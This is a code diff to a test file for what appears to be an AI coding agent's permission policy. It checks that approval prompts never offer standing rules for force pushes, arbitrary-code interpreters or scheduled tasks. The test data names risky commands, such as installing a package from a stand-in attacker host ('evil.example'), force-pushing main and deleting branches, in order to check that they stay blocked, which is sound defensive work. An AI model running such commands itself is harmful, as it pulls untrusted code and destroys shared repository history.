@@ -1,6 +1,8 @@
 import { describe, expect, test } from 'vitest';
 import type { ApprovalMode, Rule, Rules } from '../../src/core/policy.js';
 import type { Effect, Judged } from '../../src/core/tool.js';
+import wordLists from '../../config/commands/words.json' with { type: 'json' };
+import { scheduleTools } from '../../src/toolsets/tasks/schedule-tools.js';
 import { createPolicy } from '../../src/policy/assess.js';
 import type { PathFacts } from '../../src/policy/guarded-paths.js';
 import { toolCall } from './calls.js';
@@ -110,9 +112,10 @@ describe('rules that a question offers', () => {
   });
 
   test.each(['git push --force-with-lease', 'git push --force origin main'])(
-    'a dangerous command is offered with all its words: %s',
+    'a dangerous command is never offered: %s',
     async (command) => {
-      expect(await offered(command, 'dangerous')).toEqual([command]);
+      expect(await offered(command, 'dangerous')).toEqual([]);
+      expect(await offered(command, 'mutating')).toEqual([]);
     },
   );
 
@@ -159,6 +162,28 @@ describe('rules that a question offers', () => {
     expect(await offeredFor('run_code', 'execute', {}, { ...risky, singular: true })).toBeUndefined();
   });
 
+  test('nothing is offered for programs that run what follows them, whatever their version and place', async () => {
+    const { openEndedPrograms, openEndedVerbs } = wordLists.lists;
+    const versions = ['python3.12', '/usr/bin/python3.11', 'node-20', 'ruby3.2', 'perl5.36', 'php8.2', 'lua5.4'];
+    const begins = (program: string) => (rule: string) => rule.split(' ')[0] === program.split(' ')[0];
+    for (const program of [...openEndedPrograms, ...openEndedVerbs, ...versions])
+      for (const mode of ['mutating', 'dangerous'] as const)
+        for (const rest of ['x.y', 'sub --fix'])
+          expect((await offered(`${program} ${rest}`, mode)).filter(begins(program)), program).toEqual([]);
+  });
+
+  test('nothing is offered for making tasks and reminders, which run later', async () => {
+    const tools = scheduleTools({} as never).filter(({ name }) => name.startsWith('add_'));
+    expect(tools.length).toBeGreaterThan(1);
+    for (const tool of tools)
+      for (const task_type of ['reminder', 'agent_task', 'api_call', 'web_search']) {
+        const call = toolCall(tool.name, 'write', { task_type });
+        const bound = { ...call, tool: { ...call.tool, ...tool } };
+        for (const mode of ['mutating', 'dangerous'] as const)
+          expect((await policy(mode).assess(bound, facts.workspace)).rules, tool.name).toBeUndefined();
+      }
+  });
+
   test('nothing is offered where it would not be heeded', async () => {
     const call = toolCall('bash', 'execute', { command: 'npm test' });
     const rule = { tool: 'bash', argv: ['npm', 'test'] };
@@ -169,12 +194,7 @@ describe('rules that a question offers', () => {
   });
 
   test('what is offered allows the call, and nothing more is asked about', async () => {
-    for (const command of [
-      'git commit -m x',
-      'npm run build',
-      'git fetch && git add -A',
-      'git push --force origin main',
-    ]) {
+    for (const command of ['git commit -m x', 'npm run build', 'git fetch && git add -A']) {
       const call = toolCall('bash', 'execute', { command });
       const { rules = [] } = await policy('mutating').assess(call, facts.workspace);
       expect(rules.length, command).toBeGreaterThan(0);
@@ -197,7 +217,6 @@ describe('rules that a question offers', () => {
     ['git stash', 'git stash drop'],
     ['git branch new', 'git branch -D main'],
     ['npm install', 'npm install https://evil.example/a.tgz'],
-    ['git push --force-with-lease', 'git push --force-with-lease evil main'],
   ])('what is offered for `%s` does not allow `%s`', async (command, worse) => {
     const decide = async (line: string, rules: readonly Rule[]): Promise<string> =>
       (
